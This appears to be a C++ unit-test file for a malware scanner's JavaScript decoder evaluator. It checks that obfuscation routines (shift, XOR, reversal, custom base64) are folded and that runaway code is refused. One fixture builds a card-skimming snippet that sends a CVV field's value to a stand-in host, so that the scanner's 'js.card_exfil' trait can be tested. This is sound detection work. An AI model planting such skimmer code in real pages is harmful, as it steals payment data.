// The JavaScript decoder evaluator (js_eval.cc): a file's own decoder functions run on
// literals, the calls replaced by their strings; what the subset does not cover, and runaway
// code, end as refusals within the limits.
#include "webroot/js_eval.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "webroot/normalize.h"

namespace tq::webroot {
namespace {

std::vector<Token> Lex(std::string_view src) { return LexJs(src, LexLimits()).tokens; }

Token Str(std::string s) {
  Token t;
  t.type = Tok::kString;
  t.text = std::move(s);
  return t;
}
Token Num(std::string s) {
  Token t;
  t.type = Tok::kNumber;
  t.text = std::move(s);
  return t;
}

std::string Decode(std::string_view src, const std::string& name, std::vector<Token> args,
                   std::string* why = nullptr, JsEvalLimits limits = {}) {
  std::string out, reason;
  bool ok = RunJsDecoder(Lex(src), name, args, limits, &out, &reason);
  if (why) *why = reason;
  return ok ? out : "<refused: " + reason + ">";
}

std::string Shift(std::string_view s, int k) {
  std::string out;
  for (char c : s) out += static_cast<char>(c + k);
  return out;
}

TEST(JsEval, ShiftXorAndReverseDecoders) {
  const char* shift =
      "function d(s,k){var o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode("
      "s.charCodeAt(i)-k);}return o;}";
  EXPECT_EQ(Decode(shift, "d", {Str(Shift("https://a.example/c", 3)), Num("3")}),
            "https://a.example/c");
  const char* xor_key =
      "function x(s,k){var r=[];for(var i=0;i<s.length;i++)r.push(String.fromCharCode(s."
      "charCodeAt(i)^k.charCodeAt(i%k.length)));return r.join('');}";
  std::string plain = "document.cookie", key = "k3y";
  std::string enc;
  for (size_t i = 0; i < plain.size(); ++i)
    enc += static_cast<char>(plain[i] ^ key[i % key.size()]);
  EXPECT_EQ(Decode(xor_key, "x", {Str(enc), Str(key)}), plain);
  EXPECT_EQ(Decode("var r=function(s){return s.split('').reverse().join('')};", "r",
                   {Str("moc.elpmaxe//:sptth")}),
            "https://example.com");
  // do-while, ternaries, parseInt of hex pairs, toString(36), unescape.
  EXPECT_EQ(
      Decode("function h(s){var o='',i=0;do{o+=String.fromCharCode(parseInt(s.substr(i,2),16));"
             "i+=2}while(i<s.length);return o}",
             "h", {Str("6576616c")}),
      "eval");
  EXPECT_EQ(Decode("function n(v){return v>0?(v).toString(36).split('').join(''):'x'}", "n",
                   {Num("1295")}),
            "zz");
  EXPECT_EQ(Decode("function u(s){return unescape(s)}", "u", {Str("%61%u0062c")}), "abc");
}

TEST(JsEval, TypeofOfUnboundNamesAndGlobals) {
  // Environment checks a decoder makes (is TextDecoder there?): a browser's built-ins are
  // there; a name nothing binds is "undefined".
  EXPECT_EQ(Decode("function d(s){return typeof TextDecoder+typeof Infinity+typeof s+typeof "
                   "parseInt+s.charAt(0)}",
                   "d", {Str("x")}),
            "functionnumberstringfunctionx");
}

TEST(JsEval, CustomAlphabetWithConstantsAndHelpers) {
  // A base64 decoder over a shuffled alphabet kept in a top-level constant, calling a helper.
  const char* src =
      "var A='ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210+/';"
      "function c(n){return String.fromCharCode(n)}"
      "function b(s){var o='',q=0,n=0;for(var i=0;i<s.length;i++){var v=A.indexOf(s.charAt(i));"
      "if(v<0)continue;q=(q<<6)|v;n+=6;if(n>=8){n-=8;o+=c((q>>n)&255);}}return o}";
  // "fetch" in that alphabet: standard base64 "ZmV0Y2g=", each letter mapped.
  const std::string std_alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  const std::string own = "ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210+/";
  std::string enc;
  for (char ch : std::string("ZmV0Y2g")) enc += own[std_alpha.find(ch)];
  EXPECT_EQ(Decode(src, "b", {Str(enc)}), "fetch");
}

TEST(JsEval, CallsAreReplacedInTheFold) {
  std::string host = Shift("https://stats.example.top/c", 3);
  std::string src =
      "function d(s,k){var o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode(s.charCodeAt(i)"
      "-k);}return o;}var u=d('" +
      host + "',3);new Image().src=u+'?d='+btoa(document.getElementById('cc_cvv').value);";
  std::vector<Token> t = Lex(src);
  FoldBudget budget;
  ASSERT_TRUE(FoldJsDecoders(t, budget));
  bool found = false;
  for (const Token& k : t)
    if (k.type == Tok::kString && k.text == "https://stats.example.top/c") {
      found = true;
      EXPECT_EQ(k.decoded_by, "d()");
    }
  EXPECT_TRUE(found);
  // Through Normalize: the host is read and the card data leaving is a trait.
  NormalizedCode n = Normalize(src, CodeKind::kJs);
  bool exfil = false;
  for (const CodeTrait& c : n.traits) exfil = exfil || c.id == "js.card_exfil";
  EXPECT_TRUE(exfil);
}

TEST(JsEval, WhatIsNotRunStaysAsItIs) {
  std::string why;
  // The DOM, Math.random, an object's prototype, a regular expression: refused.
  EXPECT_EQ(Decode("function d(s){return document.title+s.charAt(0)}", "d", {Str("a")}, &why)
                .rfind("<refused", 0),
            0u);
  EXPECT_NE(why.find("document"), std::string::npos);
  EXPECT_EQ(Decode("function d(s){return s.charAt(Math.random()*2)}", "d", {Str("ab")})
                .rfind("<refused", 0),
            0u);
  EXPECT_EQ(Decode("function d(s){return {a:s}.toString()}", "d", {Str("ab")})
                .rfind("<refused", 0),
            0u);
  EXPECT_EQ(
      Decode("function d(s){return s.replace(/a/g,'b')}", "d", {Str("ab")}).rfind("<refused", 0),
      0u);
  // Declared twice, or written again: which one runs is not known, so neither does.
  std::vector<Token> t =
      Lex("function d(s){return s.split('').reverse().join('')}function d(s){return s}"
          "var x=d('cba');");
  FoldBudget budget;
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  t = Lex("function d(s){return s.split('').reverse().join('')}d=function(s){return s};d('cba');");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  // A parameter of the same name hides the decoder where it is in scope.
  t = Lex("function d(s){return s.split('').reverse().join('')}function g(d){return d('cba')}");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  t = Lex("function d(s){return s.split('').reverse().join('')}var g=(a,d)=>d('cba');");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  // A constant written elsewhere is no constant.
  t = Lex("var K=3;function d(s){return String.fromCharCode(s.charCodeAt(0)-K)}K=4;d('d');");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  // A call with a variable argument is left alone.
  t = Lex("function d(s){return s.split('').reverse().join('')}var y=d(z);");
  EXPECT_FALSE(FoldJsDecoders(t, budget));
}

TEST(JsEval, RunawayCodeEndsWithinTheLimits) {
  std::string why;
  EXPECT_EQ(Decode("function d(s){while(true){s.charAt(0)}return s}", "d", {Str("a")}, &why)
                .rfind("<refused", 0),
            0u);
  EXPECT_EQ(why, "step limit");
  EXPECT_EQ(Decode("function d(s){for(;;){s+=s.charAt(0)+s}return s}", "d", {Str("ab")}, &why)
                .rfind("<refused", 0),
            0u);
  EXPECT_TRUE(why == "string limit" || why == "memory limit") << why;
  EXPECT_EQ(
      Decode("function d(s){return d(s.charAt(0)+s)}", "d", {Str("a")}, &why).rfind("<refused", 0),
      0u);
  EXPECT_EQ(why, "call depth");
  EXPECT_EQ(
      Decode("function d(n){var a=[];a[n]=1;return a.join('').charAt(0)}", "d", {Num("1e9")}, &why)
          .rfind("<refused", 0),
      0u);
  EXPECT_EQ(
      Decode("function d(s){return new Array(4294967295).join(s).charAt(0)}", "d", {Str("a")}, &why)
          .rfind("<refused", 0),
      0u);
  // 5,000 nested parentheses and an unterminated body: refused, not a crash.
  std::string deep = "function d(s){return " + std::string(5000, '(') + "s.charAt(0)" +
                     std::string(5000, ')') + "}";
  EXPECT_EQ(Decode(deep, "d", {Str("a")}, &why).rfind("<refused", 0), 0u);
  EXPECT_EQ(
      Decode("function d(s){return s.split('').reverse(", "d", {Str("a")}).rfind("<refused", 0),
      0u);
  // A long left-nested sum within the node cap is evaluated without a deep stack.
  std::string sum = "function d(s){return s.charAt(0)";
  for (int i = 0; i < 1000; ++i) sum += "+s.charAt(0)";
  sum += "}";
  std::string out = Decode(sum, "d", {Str("a")}, &why);
  EXPECT_TRUE(out == std::string(1001, 'a') || out.rfind("<refused", 0) == 0) << why;
}

TEST(JsEval, StepsAreChargedToTheFoldBudget) {
  std::vector<Token> t =
      Lex("function d(s){var o='';for(var i=0;i<200000;i++){o=s.charAt(0)}return o}var "
          "a=d('x'),b=d('y');");
  FoldBudget budget;
  budget.eval_steps_left = 5000;
  EXPECT_FALSE(FoldJsDecoders(t, budget));
  EXPECT_EQ(budget.eval_steps_left, 0u);
  // Half for the script's own statements (which call it too), the rest for the calls.
  ASSERT_EQ(budget.eval_refused.size(), 1u);
  EXPECT_EQ(budget.eval_refused.begin()->rfind("js:d@", 0), 0u);
}

}  // namespace
}  // namespace tq::webroot
